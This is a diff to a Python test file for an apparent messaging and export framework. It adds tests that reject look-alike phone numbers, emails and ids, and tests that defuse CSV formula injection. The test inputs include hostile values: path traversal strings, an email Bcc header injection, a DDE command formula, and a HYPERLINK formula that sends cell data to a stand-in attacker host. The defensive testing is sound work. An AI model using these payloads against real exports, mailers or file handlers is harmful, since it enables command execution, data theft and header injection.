@@ -9,10 +9,12 @@ webhooks and SMTP talk to real servers on 127.0.0.1.
 from __future__ import annotations
 
 import contextlib
+import csv
 import datetime
 import json
 import logging
 import os
+import re
 import socket
 import stat
 import threading
@@ -28,7 +30,7 @@ import redis
 
 from framework.application import Hueyard
 from framework.config import parse_settings
-from framework.errors import PayloadError
+from framework.errors import ConfigError, PayloadError
 from framework.handlers import REGISTRY, Handler, HandlerRegistry
 from framework.jobs import JobInfo, Jobs
 from framework.runtime import reset_app, set_app
@@ -47,6 +49,7 @@ from pipelines import (
     notifications,
     webhooks,
 )
+from pipelines._flowdefs import parse_flow
 from pipelines._providers import (
     AI_PROVIDERS,
     AIReply,
@@ -308,8 +311,19 @@ BAD_PAYLOADS = [
     bad("imports.import_contacts", "rows.0: Input should be a valid dictionary", rows=["Ada"]),
     bad(
         "imports.import_contacts",
-        "rows: List should have at most 100000 items",
-        rows=[{}] * 100_001,
+        "rows: List should have at most 5000 items",
+        rows=[{}] * 5_001,
+    ),
+    bad("imports.import_contacts", "give either rows", rows=...),
+    bad("imports.import_contacts", "give either rows", file="upload.csv"),
+    bad(
+        "imports.import_contacts", "file: Value error, must be the name", rows=..., file="../a.csv"
+    ),
+    bad(
+        "imports.import_contacts",
+        "is where this import writes its contacts",
+        rows=...,
+        file="contacts-imp-1.jsonl",
     ),
     # exports
     bad("exports.export_data", "exportId: Value error", exportId="../../etc/passwd"),
@@ -362,6 +376,90 @@ def test_bad_payloads_are_refused_with_a_reason(name: str, payload: Any, fragmen
     message = str(caught.value)
     assert f"payload for {name} does not validate" in message
     assert fragment in message
+
+
+# -- values that only look valid ----------------------------------------------------------------
+# Python's "$" matches before a final "\n", and "\d" matches any script's digits: a value
+# with a line break at its end, or written in fullwidth or Arabic-Indic digits, is not
+# the phone, address or id it looks like (one contact written three ways was messaged
+# three times; an address ending in "\n" broke the email's headers).
+
+FULLWIDTH_PHONE = "+1\uff14\uff11\uff15\uff15\uff15\uff15\uff10\uff11\uff12\uff13"
+ARABIC_INDIC_PHONE = "+1\u0664\u0661\u0665\u0665\u0665\u0665\u0660\u0661\u0662\u0663"
+LOOKALIKES = [
+    *(
+        bad("messages.send_message", "to: Value error, must be an E.164", to=phone)
+        for phone in (PHONE + "\n", PHONE + "\r", FULLWIDTH_PHONE, ARABIC_INDIC_PHONE)
+    ),
+    *(
+        bad(
+            "campaigns.run_campaign",
+            "recipients.1: Value error, must be an E.164",
+            recipients=[PHONE, phone],
+        )
+        for phone in (PHONE + "\n", PHONE + "\r", FULLWIDTH_PHONE, ARABIC_INDIC_PHONE)
+    ),
+    bad(
+        "campaigns.run_campaign", "campaignId: Value error, must be 1 to 128", campaignId="camp-7\n"
+    ),
+    bad(
+        "campaigns.run_campaign",
+        "recipients_file: Value error, must be the name",
+        recipients=...,
+        recipients_file="segment-42.csv\n",
+    ),
+    bad("flows.execute_flow", "contactId: Value error, must be 1 to 128", contactId="c1\n"),
+    bad("flows.execute_flow", "phone: Value error, must be an E.164", phone=FULLWIDTH_PHONE),
+    *(
+        bad("emails.send_email", "to: Value error, must be an email address", to=address)
+        for address in (
+            "jane@example.com\n",
+            "jane@example.com\r",
+            "jane@example.com\r\n",
+            "jane\uff11@example.com",
+            "jane@exam\u0661ple.com",
+            "jan\u00e9@example.com",
+            "jane,bob@example.com",
+        )
+    ),
+    bad(
+        "emails.send_email",
+        "template 'export_ready\\n' is not a template name",
+        template="export_ready\n",
+        body=...,
+    ),
+    bad(
+        "ai.generate_reply",
+        "conversationId: Value error, must be 1 to 128",
+        conversationId="conv-1\n",
+    ),
+    bad("imports.import_contacts", "importId: Value error, must be 1 to 128", importId="imp-1\n"),
+    bad(
+        "imports.import_contacts",
+        "file: Value error, must be the name",
+        rows=...,
+        file="upload.csv\n",
+    ),
+    bad("exports.export_data", "exportId: Value error, must be 1 to 128", exportId="exp-1\n"),
+    bad("exports.export_data", "exportId: Value error, must be 1 to 128", exportId="exp-1\r"),
+    bad("analytics.snapshot", "metric names must start with a letter", metrics={"sent\n": 1}),
+    bad("analytics.snapshot", "date: Value error, must be a calendar date", date="2025-11-0\u0665"),
+    bad("notifications.notify", "userId: Value error, must be 1 to 128", userId="u-1\n"),
+]
+
+
+@pytest.mark.parametrize(("name", "payload", "fragment"), LOOKALIKES)
+def test_a_line_break_at_the_end_or_non_ascii_digits_are_refused(
+    name: str, payload: Any, fragment: str
+) -> None:
+    with pytest.raises(PayloadError) as caught:
+        HANDLERS[name].spec.payload_json(payload)
+    assert fragment in str(caught.value)
+
+
+def test_a_flow_file_named_with_a_line_break_is_refused() -> None:
+    with pytest.raises(ConfigError, match=re.escape("the file name 'welcome\\n' is the flow")):
+        parse_flow("nodes:\n  - {id: bye, type: end}\n", name="welcome\n", source="x.yaml")
 
 
 def test_a_refused_payload_stores_nothing(app: Hueyard) -> None:
@@ -816,9 +914,11 @@ def test_a_wrong_allow_list_names_the_variable_and_the_fix(
     monkeypatch.setenv("HUEYARD_WEBHOOK_ALLOW_PRIVATE", "yes")
     with pytest.raises(webhooks.WebhookError) as caught:
         webhooks.deliver_webhook(delivery("https://example.com/hook"))
-    assert "HUEYARD_WEBHOOK_ALLOW_PRIVATE='yes': 'yes' is not a network; give 1" in str(
-        caught.value
-    )
+    # worded so that it reads right once masked ("NAME=value" would show NAME=********)
+    assert (
+        "HUEYARD_WEBHOOK_ALLOW_PRIVATE is 'yes', and 'yes' in it is not a network; set "
+        "HUEYARD_WEBHOOK_ALLOW_PRIVATE to 1"
+    ) in str(caught.value)
 
 
 def test_the_stored_payload_carries_the_secret_but_its_repr_does_not() -> None:
@@ -911,6 +1011,10 @@ ADA = {"name": "Ada Lovelace", "phone": "+442079460958"}
         ({"name": "Ada", "phone": "4155550123"}, "phone is not an E.164 number"),
         ({"name": "Ada", "phone": "+0123456789"}, "phone is not an E.164 number"),
         ({"name": "Ada", "phone": "+1 415 CALL ME"}, "phone is not an E.164 number"),
+        ({"name": "Ada", "phone": FULLWIDTH_PHONE}, "phone is not an E.164 number"),
+        ({"name": "Ada", "phone": ARABIC_INDIC_PHONE}, "phone is not an E.164 number"),
+        ({**ADA, "email": "ada\uff20example.com"}, "email is not an email address"),
+        ({**ADA, "email": "ada@example.com\nBcc: x@evil.example"}, "email is not an email"),
         ({**ADA, "email": "not-an-email"}, "email is not an email address"),
         ({**ADA, "email": 7}, "email is not an email address"),
     ],
@@ -933,7 +1037,10 @@ def test_phones_are_normalised(phone: str, normalised: str) -> None:
     assert contact == imports.Contact(name="Ada", phone=normalised, email=None)
 
 
-def test_an_import_counts_and_explains_rejections() -> None:
+def test_an_import_counts_and_explains_rejections(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HUEYARD_IMPORT_DIR", str(tmp_path))
     # Given two good rows, a duplicate of the first and twelve bad rows
     rows: list[dict[str, Any]] = [
         {**ADA, "email": " ada@example.com "},
@@ -950,6 +1057,12 @@ def test_an_import_counts_and_explains_rejections() -> None:
     assert len(result["rejections"]) == imports.MAX_REASONS
     assert result["rejections"][0] == {"index": 2, "reason": "phone duplicates row 0"}
     assert result["rejections"][1] == {"index": 3, "reason": "phone is missing"}
+    # And the two imported contacts are in the file it names, normalised
+    lines = Path(result["path"]).read_text(encoding="utf-8").splitlines()
+    assert [json.loads(line) for line in lines] == [
+        {"name": "Ada Lovelace", "phone": "+442079460958", "email": "ada@example.com"},
+        {"name": "Grace", "phone": "+14155550199", "email": None},
+    ]
 
 
 # -- exports ----------------------------------------------------------------------------------
@@ -1002,6 +1115,53 @@ def test_a_csv_export_is_written_with_every_column(export_dir: Path) -> None:
         "'-1+1,+14155550123,,,,'@SUM(A1)",
     ]
     assert stat.S_IMODE(target.stat().st_mode) == 0o600
+
+
+FORMULA_START = ("=", "@", "+", "-", "\t", "\r", "\uff1d", "\uff20", "\uff0b", "\uff0d")
+
+
+def runs_as_formula(text: str) -> bool:
+    """What a spreadsheet would run: text starting (after spaces) like a formula, not a
+    plain number such as -12.5 or +14155550123."""
+    stripped = text.lstrip(" ")
+    if re.fullmatch(r"[+-][0-9.]+", stripped):
+        return False
+    return stripped.startswith(FORMULA_START)
+
+
+def test_a_cr_in_a_cell_or_a_formula_in_a_header_is_not_a_formula_in_any_reader(
+    export_dir: Path,
+) -> None:
+    # Given cells whose text after a CR or LF is a formula, and columns named like formulas
+    rows: list[dict[str, Any]] = [
+        {"name": "Ada\r=cmd|' /C calc'!A0", "phone": "+14155550123"},
+        {"name": "Bob\n@SUM(1+1)", "note": "x\r\n+1+2\r-3", "balance": -12.5},
+        {'=HYPERLINK("http://evil.example/?"&A2,"Click")': "header", "@cmd": 1, "+1+2": 2},
+        {" =1+1": "leading space", "\uff1d1+1": "fullwidth", "-2": "a number is a number"},
+    ]
+
+    # When they are exported as CSV
+    path = Path(export("csv", rows)["path"])
+    data = path.read_bytes()
+
+    # Then a CSV reader gets every value back, each formula defused by a leading "'"
+    with path.open(newline="", encoding="utf-8") as file:
+        header, *body = list(csv.reader(file))
+    assert header == [
+        "name", "phone", "note", "balance",
+        "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")", "'@cmd", "'+1+2",
+        "' =1+1", "'\uff1d1+1", "-2",
+    ]  # fmt: skip
+    assert body[0][:2] == ["Ada\r'=cmd|' /C calc'!A0", "+14155550123"]
+    assert body[1][:4] == ["Bob\n'@SUM(1+1)", "", "x\r\n'+1+2\r-3", "-12.5"]
+    # And a reader that ends a row at every CR or LF, quoted or not (how Excel and
+    # LibreOffice have been fooled), finds no line that starts a formula either
+    for line in re.split(rb"\r\n|\r|\n", data):
+        for cell in next(csv.reader([line.decode()]), []):
+            assert not runs_as_formula(cell.strip('"')), line  # the quotes are syntax
+    # And every field holding a CR or LF is quoted, so it stays one field
+    assert b"\"Ada\r'=cmd|' /C calc'!A0\"" in data
+    assert b'"x\r\n\'+1+2\r-3"' in data
 
 
 def test_a_json_export_round_trips(export_dir: Path) -> None:
